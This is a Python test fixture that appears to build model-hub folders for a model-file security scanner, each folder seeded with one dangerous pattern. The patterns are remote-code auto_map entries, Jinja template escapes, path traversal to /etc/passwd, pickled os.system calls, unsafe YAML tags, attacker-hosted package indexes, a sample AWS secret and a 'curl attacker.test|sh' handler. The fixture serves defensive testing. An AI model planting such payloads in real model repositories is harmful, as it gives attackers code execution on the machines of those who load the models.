"""Folders as model hubs hold them, each with something dangerous."""

from __future__ import annotations

import io
import tarfile
from collections.abc import Mapping

from tests.bypasses.outside_pickles import SYSTEM, called

from hauberk.methods import model_writing as write


def tarred(members: Mapping[str, bytes], mode: str = "w") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        for label, data in members.items():
            info = tarfile.TarInfo(label)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def torch(pickle: bytes, extra: Mapping[str, bytes] | None = None) -> bytes:
    return write.zipped(
        {"archive/data.pkl": pickle, "archive/version": b"3\n", **(extra or {})}, compressed=False
    )


def hub(**files: bytes | str) -> dict[str, bytes]:
    base: dict[str, bytes] = {
        "config.json": b'{"model_type": "bert", "architectures": ["BertModel"]}'
    }
    named = {
        label.replace("__", "."): data.encode() if isinstance(data, str) else data
        for label, data in files.items()
    }
    return {**base, **named}


def hubs() -> dict[str, Mapping[str, bytes]]:
    """Folders as model hubs hold them."""
    return {
        "auto-map": hub(
            config__json='{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}}',
            modeling_x__py="import os\nos.system('echo canary')\n",
        ),
        "auto-map-elsewhere": hub(
            config__json='{"model_type": "x", "auto_map": {"AutoModel": "attacker/repo--modeling.X"}}'
        ),
        "auto-map-tokenizer": hub(
            tokenizer_config__json='{"auto_map": {"AutoTokenizer": ["tok.T", null]}}',
            tok__py="import os\nos.system('echo canary')\n",
        ),
        "template": hub(
            tokenizer_config__json='{"chat_template": "{{ cycler.__init__.__globals__ }}"}'
        ),
        "template-list": hub(
            tokenizer_config__json='{"chat_template": [{"name": "default", "template": "{{ messages }}"}, {"name": "tool", "template": "{{ lipsum.__globals__ }}"}]}'
        ),
        "template-file": hub(chat_template__jinja="{{ x.__class__.__base__ }}"),
        "template-json": hub(
            chat_template__json='{"chat_template": "{{ x.__init__.__globals__ }}"}'
        ),
        "index-up": {
            **hub(),
            "model.safetensors.index.json": b'{"metadata": {}, "weight_map": {"w": "../../../etc/passwd"}}',
        },
        "index-abs": {
            **hub(),
            "pytorch_model.bin.index.json": b'{"weight_map": {"w": "/tmp/evil.bin"}}',
        },
        "shard": {**hub(), "pytorch_model-00001-of-00002.bin": torch(SYSTEM)},
        "yaml-tag": hub(params__yaml="a: !!python/object/apply:os.system ['echo canary']\n"),
        "yaml-new": hub(hparams__yaml="a: !!python/object/new:subprocess.Popen [[id]]\n"),
        "hydra": hub(conf__yaml="model:\n  _target_: os.system\n  command: echo canary\n"),
        "requirements": hub(requirements__txt="--index-url http://attacker.test/simple\ntorch\n"),
        "requirements-git": hub(requirements__txt="git+http://attacker.test/x.git\n"),
        "secret": {
            **hub(),
            ".env": b"AWS_SECRET_ACCESS_KEY=" + b"wJalrXUtnFEMIK7MDENGbPxRfiCYzQ7LWX2NQ9ab" + b"\n",
        },
        "label-swap": hub(
            config__json='{"model_type": "bert", "id2label": {"0": "benign", "1": "malware"}, "label2id": {"malware": 0, "benign": 1}}'
        ),
        "label-twice": hub(
            config__json='{"model_type": "bert", "id2label": {"0": "yes", "1": "yes"}, "label2id": {"yes": 0}}'
        ),
        "setup": hub(setup__py="import os\nos.system('echo canary')\n"),
        "handler": hub(
            handler__py="import subprocess\nsubprocess.run('curl http://attacker.test|sh', shell=True)\n"
        ),
        "tokenizer-pickle": {**hub(), "tokenizer.pkl": SYSTEM},
        "optimizer": {**hub(), "optimizer.pt": torch(SYSTEM)},
        "training-args": {
            **hub(),
            "training_args.bin": torch(called("transformers.training_args.exec")),
        },
        "nemo": {
            "m.nemo": tarred(
                {"model_config.yaml": b"target: os.system\n", "model_weights.ckpt": torch(SYSTEM)}
            )
        },
        "mar": {
            "m.mar": write.zipped(
                {
                    "MAR-INF/MANIFEST.json": b'{"model": {"handler": "h.py", "serializedFile": "m.pt"}}',
                    "h.py": b"import os\nos.system('echo canary')\n",
                }
            )
        },
        "mlmodel": {
            "MLmodel": b"flavors:\n  python_function:\n    loader_module: os\n    python_model: python_model.pkl\n",
            "python_model.pkl": SYSTEM,
        },
        "feature-extractor": hub(
            preprocessor_config__json='{"auto_map": {"AutoImageProcessor": "p.P"}}',
            p__py="exec('1')\n",
        ),
        "custom-pipelines": hub(
            config__json='{"model_type": "bert", "custom_pipelines": {"x": {"impl": "p.P"}}}',
            p__py="import os\nos.system('id')\n",
        ),
        "diffusers": {
            "model_index.json": b'{"_class_name": "StableDiffusionPipeline", "unet": ["evil_module", "Evil"]}',
            "evil_module.py": b"import os\nos.system('id')\n",
        },
        "sentence": {
            "modules.json": b'[{"idx": 0, "name": "0", "path": "", "type": "os.system"}]',
            "config.json": b'{"model_type": "bert"}',
        },
    }
